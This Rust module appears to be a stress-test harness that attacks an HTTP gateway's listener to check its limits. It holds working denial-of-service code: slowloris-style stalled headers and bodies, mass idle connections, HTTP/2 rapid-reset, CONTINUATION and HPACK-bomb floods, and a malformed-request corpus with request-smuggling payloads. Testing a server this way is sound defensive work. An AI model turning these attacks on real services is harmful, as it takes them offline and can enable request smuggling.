//! The attacks: rows of the tests' ids, each from one client address.

use std::io::{BufRead as _, BufReader, Read as _, Write as _};
use std::net::{SocketAddr, TcpStream};
use std::time::Duration;

use super::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, RST_STREAM, SETTINGS, WINDOW_UPDATE, block,
    frame, kept, setting,
};

#[derive(Clone)]
pub(crate) struct Target {
    pub(crate) address: SocketAddr,
    pub(crate) admin: SocketAddr,
    /// Of a session.
    pub(crate) cookie: String,
}

pub(crate) struct Attack {
    pub(crate) name: &'static str,
    /// Returns what it holds on to.
    pub(crate) run: fn(&Target) -> Vec<TcpStream>,
}

pub(crate) const ATTACKS: &[Attack] = &[
    Attack { name: "FX-12 2000 heads that do not end", run: heads },
    Attack { name: "FX-12 500 heads of 60 KiB that do not end", run: large_heads },
    Attack { name: "FX-12 1000 bodies that stop", run: bodies },
    Attack { name: "FX-20 300 answers of 64 MiB that nobody reads", run: unread },
    Attack { name: "FX-12 5000 connections that say nothing", run: silent },
    Attack { name: "FX-12 5000 idle keep-alive connections", run: idle },
    Attack { name: "WX-07 2000 idle WebSockets", run: websockets },
    Attack { name: "M-01 to M-17 20 000 malformed requests", run: malformed },
    Attack { name: "FX-05 100 000 streams reset at once", run: rapid_reset },
    Attack { name: "FX-06 20 000 window updates of 0", run: zero_updates },
    Attack { name: "FX-07 50 000 CONTINUATION frames", run: continuation },
    Attack { name: "FX-08 200 HPACK bombs", run: hpack_bombs },
    Attack { name: "FX-09 200 000 PING and SETTINGS frames", run: pings },
    Attack { name: "FX-09 200 000 empty DATA frames", run: empty_data },
    Attack { name: "FX-11 1000 answers of 64 MiB, windows of 0", run: zero_window },
];

impl Target {
    pub(crate) fn connect(&self) -> std::io::Result<TcpStream> {
        let stream = TcpStream::connect(self.address)?;
        stream.set_read_timeout(Some(Duration::from_secs(30)))?;
        stream.set_write_timeout(Some(Duration::from_secs(5)))?;
        Ok(stream)
    }

    /// Client connections that the gateway has open, by its own count.
    pub(crate) fn connections(&self) -> u64 {
        let mut stream = TcpStream::connect(self.admin).unwrap();
        write!(stream, "GET /metrics HTTP/1.1\r\nHost: admin\r\nConnection: close\r\n\r\n").unwrap();
        let mut text = String::new();
        stream.read_to_string(&mut text).unwrap();
        let line = text.lines().find_map(|line| line.strip_prefix("doorward_connections "));
        line.and_then(|n| n.parse().ok()).unwrap_or(0)
    }

    /// So many connections with these bytes sent; what is refused is left out.
    fn each(&self, count: usize, bytes: &[u8]) -> Vec<TcpStream> {
        (0..count)
            .filter_map(|_| {
                let mut stream = self.connect().ok()?;
                stream.write_all(bytes).ok()?;
                Some(stream)
            })
            .collect()
    }

    fn head(&self, line: &str) -> String {
        format!("{line} HTTP/1.1\r\nHost: {}\r\nCookie: {}\r\n", self.address, self.cookie)
    }

    /// An HTTP/2 connection with these settings, and these bytes sent over it for as long as it takes them.
    fn http2(&self, settings: &[u8], attack: impl Iterator<Item = Vec<u8>>) -> TcpStream {
        let mut stream = self.connect().unwrap();
        let begin = [PREFACE, &frame(SETTINGS, 0, 0, settings)].concat();
        if stream.write_all(&begin).is_ok() {
            let mut batch = Vec::new();
            for piece in attack {
                batch.extend(piece);
                if batch.len() > 16 * 1024 && stream.write_all(&std::mem::take(&mut batch)).is_err() {
                    break;
                }
            }
            drop(stream.write_all(&batch));
        }
        stream
    }

    fn request(&self, path: &str) -> Vec<u8> {
        block(&self.address.to_string(), path, &[("cookie", &self.cookie)])
    }
}

fn heads(target: &Target) -> Vec<TcpStream> {
    target.each(2000, format!("GET / HTTP/1.1\r\nHost: {}\r\nX-Slow: ", target.address).as_bytes())
}

fn large_heads(target: &Target) -> Vec<TcpStream> {
    let head = format!("GET / HTTP/1.1\r\nHost: {}\r\nX-Slow: {}", target.address, "x".repeat(60 * 1024));
    target.each(500, head.as_bytes())
}

fn bodies(target: &Target) -> Vec<TcpStream> {
    let head = target.head("POST /form");
    target.each(1000, format!("{head}Content-Length: 1000000\r\n\r\n{}", "x".repeat(1000)).as_bytes())
}

fn unread(target: &Target) -> Vec<TcpStream> {
    target.each(300, format!("{}\r\n", target.head("GET /large")).as_bytes())
}

fn silent(target: &Target) -> Vec<TcpStream> {
    target.each(5000, b"")
}

fn idle(target: &Target) -> Vec<TcpStream> {
    let request = format!("{}\r\n", target.head("GET /"));
    let held = target.each(5000, request.as_bytes());
    held.iter().for_each(|stream| drop(BufReader::new(stream).read_line(&mut String::new())));
    held
}

fn websockets(target: &Target) -> Vec<TcpStream> {
    let request = format!("{}Connection: Upgrade\r\nUpgrade: websocket\r\n\r\n", target.head("GET /ws"));
    let held = target.each(2000, request.as_bytes());
    held.iter().for_each(|stream| drop(BufReader::new(stream).read_line(&mut String::new())));
    held
}

fn malformed(target: &Target) -> Vec<TcpStream> {
    let host = format!("Host: {}\r\n", target.address);
    let corpus = [
        format!("POST / HTTP/1.1\r\n{host}Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /x"),
        format!("POST / HTTP/1.1\r\n{host}Transfer-Encoding: identity, chunked\r\n\r\n0\r\n\r\n"),
        format!("POST / HTTP/1.1\r\n{host}Content-Length: +5\r\n\r\nhello"),
        format!("GET / HTTP/1.1\r\n{host}X: a\r\n b\r\n\r\n"),
        format!("GET / HTTP/1.1\r\n{host}X\0: a\r\n\r\n"),
        format!("GET / HTTP/1.1\r\n{host}{}\r\n", "A: b\r\n".repeat(101)),
        format!("GET /{} HTTP/1.1\r\n{host}\r\n", "x".repeat(70_000)),
        format!("CONNECT {} HTTP/1.1\r\n{host}\r\n", target.address),
        "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\nnot a frame at all".to_owned(),
        "\u{16}\u{3}\u{1}\u{2}\u{0}\u{1}".to_owned(),
    ];
    for round in 0..2000 {
        for bytes in &corpus {
            let Ok(mut stream) = target.connect() else { continue };
            drop(stream.write_all(bytes.as_bytes()));
            // Now and then the answer is waited for, so that they do not only pile up.
            if round % 8 == 0 {
                drop(stream.shutdown(std::net::Shutdown::Write));
                drop(stream.read(&mut [0; 1024]));
            }
        }
    }
    Vec::new()
}

fn rapid_reset(target: &Target) -> Vec<TcpStream> {
    let request = target.request("/");
    (0..10)
        .map(|_| {
            let streams = (0..10_000_u32).map(|n| {
                let id = 2 * n + 1;
                let reset = frame(RST_STREAM, 0, id, &8_u32.to_be_bytes());
                [frame(HEADERS, END_HEADERS | END_STREAM, id, &request), reset].concat()
            });
            target.http2(&[], streams)
        })
        .collect()
}

fn zero_updates(target: &Target) -> Vec<TcpStream> {
    let request = target.request("/");
    let streams = (0..20_000_u32).map(|n| {
        let id = 2 * n + 1;
        let update = frame(WINDOW_UPDATE, 0, id, &0_u32.to_be_bytes());
        [frame(HEADERS, END_HEADERS | END_STREAM, id, &request), update].concat()
    });
    vec![target.http2(&[], streams)]
}

fn continuation(target: &Target) -> Vec<TcpStream> {
    let begin = frame(HEADERS, END_STREAM, 1, &target.request("/"));
    let more = frame(CONTINUATION, 0, 1, &kept("x", &"x".repeat(1000)));
    vec![target.http2(&[], std::iter::once(begin).chain((0..50_000).map(|_| more.clone())))]
}

fn hpack_bombs(target: &Target) -> Vec<TcpStream> {
    let mut bomb = target.request("/");
    bomb.extend(kept("cookie", &"x".repeat(4000)));
    // One byte each names those four thousand.
    bomb.extend(std::iter::repeat_n(0xbe, 12_000));
    (0..200).map(|_| target.http2(&[], std::iter::once(frame(HEADERS, END_HEADERS | END_STREAM, 1, &bomb)))).collect()
}

fn pings(target: &Target) -> Vec<TcpStream> {
    let both = [frame(PING, 0, 0, &[0; 8]), frame(SETTINGS, 0, 0, &setting(4, 65_535))].concat();
    vec![target.http2(&[], (0..100_000).map(|_| both.clone()))]
}

fn empty_data(target: &Target) -> Vec<TcpStream> {
    let host = target.address.to_string();
    let begin = frame(HEADERS, END_HEADERS, 1, &block(&host, "/form", &[("cookie", &target.cookie)]));
    let empty = frame(DATA, 0, 1, &[]);
    vec![target.http2(&[], std::iter::once(begin).chain((0..200_000).map(|_| empty.clone())))]
}

/// No more than one upstream serves at a time: beyond that `upstream_options.requests` refuses, the visitor too.
fn zero_window(target: &Target) -> Vec<TcpStream> {
    let request = target.request("/large");
    (0..10)
        .map(|_| {
            let streams = (0..100_u32).map(|n| frame(HEADERS, END_HEADERS | END_STREAM, 2 * n + 1, &request));
            target.http2(&setting(4, 0), streams)
        })
        .collect()
}
